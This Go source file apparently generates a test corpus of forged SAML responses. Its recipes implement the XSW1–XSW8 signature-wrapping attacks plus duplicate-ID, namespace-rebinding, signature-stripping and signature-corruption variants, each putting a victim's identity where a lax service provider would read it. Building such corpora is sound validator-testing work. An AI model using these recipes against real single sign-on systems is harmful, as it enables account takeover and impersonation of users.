package samlcorpus

import (
	"errors"
	"time"

	"github.com/beevik/etree"
)

// recipeEnv is what a recipe may use: the IdP's signer (to sign a second element as the
// IdP would), the victim the forged content names.
type recipeEnv struct {
	idp    *IdP
	signer *signer
	victim Person
	now    time.Time
	fill   func(string) string
}

// A recipe restructures a signed response: the signature-wrapping family, where what is
// signed and what a careless SP reads are two different elements. Names follow the SAML
// Raider catalogue (XSW1–XSW8) where they are its variants.
type recipe func(env *recipeEnv, root *etree.Element) (*etree.Element, error)

var recipes = map[string]recipe{
	"xsw1":                    xsw1,
	"xsw2":                    xsw2,
	"xsw3":                    xsw3,
	"xsw4":                    xsw4,
	"xsw5":                    xsw5,
	"xsw6":                    xsw6,
	"xsw7":                    xsw7,
	"xsw8":                    xsw8,
	"evil-after-signed":       evilAfterSigned,
	"evil-in-advice":          evilInAdvice,
	"evil-in-subject-conf":    evilInSubjectConfirmationData,
	"duplicate-id":            duplicateID,
	"second-signed-assertion": secondSignedAssertion,
	"evil-default-namespace":  evilDefaultNamespace,
	"signature-ns-rebound":    signatureNSRebound,
	"assertion-ns-foreign":    assertionNSForeign,
	"strip-all-signatures":    stripAllSignatures,
	"flip-signature-value":    flipSignatureValue,
}

func assertionOf(root *etree.Element) (*etree.Element, error) {
	a := root.FindElement("./Assertion")
	if a == nil {
		return nil, errors.New("the response has no plain Assertion")
	}
	return a, nil
}

func signatureOf(el *etree.Element) *etree.Element { return el.FindElement("./Signature") }

// evil is a copy of the signed assertion a without its signature, with a new ID and the
// victim in its NameID and address attribute: what an attacker who holds a signed
// assertion of their own would like the SP to read.
func (env *recipeEnv) evil(a *etree.Element) *etree.Element {
	e := a.Copy()
	if sig := signatureOf(e); sig != nil {
		e.RemoveChild(sig)
	}
	e.CreateAttr("ID", newID())
	env.victimise(e)
	return e
}

func (env *recipeEnv) victimise(e *etree.Element) {
	if n := e.FindElement("./Subject/NameID"); n != nil {
		n.SetText(env.victim.Email)
	}
	for _, v := range e.FindElements("./AttributeStatement/Attribute[@Name='" + AttrEmail + "']/AttributeValue") {
		v.SetText(env.victim.Email)
	}
	for _, v := range e.FindElements("./AttributeStatement/Attribute[@Name='urn:oid:0.9.2342.19200300.100.1.1']/AttributeValue") {
		v.SetText(env.victim.Email)
	}
	for _, v := range e.FindElements("./AttributeStatement/Attribute[@Name='urn:oid:1.3.6.1.4.1.5923.1.1.1.6']/AttributeValue") {
		v.SetText(env.victim.Email)
	}
}

func unsigned(el *etree.Element) *etree.Element {
	c := el.Copy()
	if sig := signatureOf(c); sig != nil {
		c.RemoveChild(sig)
	}
	return c
}

// xsw1: the signed Response moves inside the Signature of an evil Response (new ID, evil
// unsigned assertion) that the signature does not cover.
func xsw1(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return wrapResponse(env, root, true)
}

// xsw2: as xsw1, but the signed Response sits before the Signature, as a detached one.
func xsw2(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return wrapResponse(env, root, false)
}

func wrapResponse(env *recipeEnv, root *etree.Element, inside bool) (*etree.Element, error) {
	sig := signatureOf(root)
	if sig == nil {
		return nil, errors.New("xsw1/xsw2 need a signed response")
	}
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	orig := unsigned(root)
	evil := root.Copy()
	evil.CreateAttr("ID", newID())
	evilSig := signatureOf(evil)
	ea, _ := assertionOf(evil)
	evil.RemoveChild(ea)
	evil.AddChild(env.evil(a))
	if inside {
		evilSig.AddChild(orig)
	} else {
		evil.InsertChildAt(evilSig.Index(), orig)
	}
	return evil, nil
}

// xsw3: an evil unsigned assertion before the signed one.
func xsw3(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	root.InsertChildAt(a.Index(), env.evil(a))
	return root, nil
}

// xsw4: the evil assertion wraps the signed one, which becomes its child.
func xsw4(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	evil := env.evil(a)
	at := a.Index()
	root.RemoveChild(a)
	evil.AddChild(a)
	root.InsertChildAt(at, evil)
	return root, nil
}

// xsw5: the evil assertion carries the original's signature; the original, unsigned, is
// appended at the end of the response (the signature still verifies over it by ID).
func xsw5(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return sigMoves(env, root, func(root, evil, sig, orig *etree.Element) { root.AddChild(orig) })
}

// xsw6: as xsw5, with the original inside the evil assertion's Signature element.
func xsw6(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return sigMoves(env, root, func(root, evil, sig, orig *etree.Element) { sig.AddChild(orig) })
}

// xsw8: as xsw6, with the original in a ds:Object of the Signature.
func xsw8(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return sigMoves(env, root, func(root, evil, sig, orig *etree.Element) {
		obj := sig.CreateElement(sig.Space + ":Object")
		if sig.Space == "" {
			obj.Tag, obj.Space = "Object", ""
		}
		obj.AddChild(orig)
	})
}

// evil-in-advice: as xsw5, with the original in the evil assertion's saml:Advice, where
// SAML allows other assertions; the signature's reference points there.
func evilInAdvice(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return sigMoves(env, root, func(root, evil, sig, orig *etree.Element) {
		adv := etree.NewElement("saml:Advice")
		adv.AddChild(orig)
		at := len(evil.Child)
		if c := evil.FindElement("./Conditions"); c != nil {
			at = c.Index() + 1
		}
		evil.InsertChildAt(at, adv)
	})
}

// evil-in-subject-conf: the original, unsigned, hidden in the evil assertion's
// SubjectConfirmationData (whose content model is open); the evil one carries the signature.
func evilInSubjectConfirmationData(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	return sigMoves(env, root, func(root, evil, sig, orig *etree.Element) {
		if scd := evil.FindElement("./Subject/SubjectConfirmation/SubjectConfirmationData"); scd != nil {
			scd.AddChild(orig)
		}
	})
}

func sigMoves(env *recipeEnv, root *etree.Element, place func(root, evil, sig, orig *etree.Element)) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	sig := signatureOf(a)
	if sig == nil {
		return nil, errors.New("this recipe needs a signed assertion")
	}
	orig := unsigned(a)
	evil := env.evil(a)
	evilSig := sig.Copy()
	moveAfterIssuerAdd(evil, evilSig)
	at := a.Index()
	root.RemoveChild(a)
	root.InsertChildAt(at, evil)
	place(root, evil, evilSig, orig)
	return root, nil
}

func moveAfterIssuerAdd(parent, child *etree.Element) {
	parent.AddChild(child)
	moveAfterIssuer(parent, child)
}

// xsw7: the signed assertion inside a samlp:Extensions of the response; the evil one where
// the assertion belongs.
func xsw7(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	evil := env.evil(a)
	at := a.Index()
	root.RemoveChild(a)
	ext := etree.NewElement("samlp:Extensions")
	ext.AddChild(a)
	at2 := 0
	if iss := root.FindElement("./Issuer"); iss != nil {
		at2 = iss.Index() + 1
	}
	root.InsertChildAt(at2, ext)
	root.InsertChildAt(at+1, evil)
	return root, nil
}

// evil-after-signed: the evil unsigned assertion after the signed one.
func evilAfterSigned(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	root.InsertChildAt(a.Index()+1, env.evil(a))
	return root, nil
}

// duplicate-id: the evil assertion takes the signed one's ID and comes first, so that a
// lookup by ID and a read of "the assertion" can find different elements.
func duplicateID(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	evil := env.evil(a)
	evil.CreateAttr("ID", a.SelectAttrValue("ID", ""))
	root.InsertChildAt(a.Index(), evil)
	return root, nil
}

// second-signed-assertion: two assertions, each validly signed by the IdP, the second
// naming the victim: a response carries exactly one.
func secondSignedAssertion(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	evil := env.evil(a)
	signed, err := env.signer.sign(evil)
	if err != nil {
		return nil, err
	}
	root.InsertChildAt(a.Index()+1, signed)
	return root, nil
}

// evil-default-namespace: the evil assertion spelled with the SAML namespace as its
// default namespace and no prefix, before the signed one: a prefix-matching reader sees
// only the signed one, a namespace-aware one sees two.
func evilDefaultNamespace(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	evil := env.evil(a)
	var unprefix func(e *etree.Element)
	unprefix = func(e *etree.Element) {
		if e.Space == "saml" {
			e.Space = ""
		}
		for _, c := range e.ChildElements() {
			unprefix(c)
		}
	}
	unprefix(evil)
	evil.CreateAttr("xmlns", "urn:oasis:names:tc:SAML:2.0:assertion")
	root.InsertChildAt(a.Index(), evil)
	return root, nil
}

// signature-ns-rebound: the assertion's ds prefix is rebound to another namespace on its
// Signature element, so the element is no XML signature at all.
func signatureNSRebound(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	sig := signatureOf(a)
	if sig == nil {
		return nil, errors.New("needs a signed assertion")
	}
	sig.CreateAttr("xmlns:"+sig.Space, "urn:corpus:not-xmldsig")
	return root, nil
}

// assertion-ns-foreign: the signed assertion's saml prefix is rebound to a foreign
// namespace on the Assertion element: it looks like an assertion and is none.
func assertionNSForeign(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	a, err := assertionOf(root)
	if err != nil {
		return nil, err
	}
	a.CreateAttr("xmlns:saml", "urn:corpus:not-saml")
	env.victimise(a)
	return root, nil
}

// strip-all-signatures: every Signature element removed.
func stripAllSignatures(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	for _, s := range root.FindElements("//Signature") {
		s.Parent().RemoveChild(s)
	}
	return root, nil
}

// flip-signature-value: one bit of each SignatureValue flipped (after base64 decoding),
// the content left alone.
func flipSignatureValue(env *recipeEnv, root *etree.Element) (*etree.Element, error) {
	for _, v := range root.FindElements("//SignatureValue") {
		t := []byte(v.Text())
		// Flip a character in the middle for another base64 character: the decoded
		// signature changes in one place, its length does not.
		i := len(t) / 2
		if t[i] == 'A' {
			t[i] = 'B'
		} else {
			t[i] = 'A'
		}
		v.SetText(string(t))
	}
	return root, nil
}
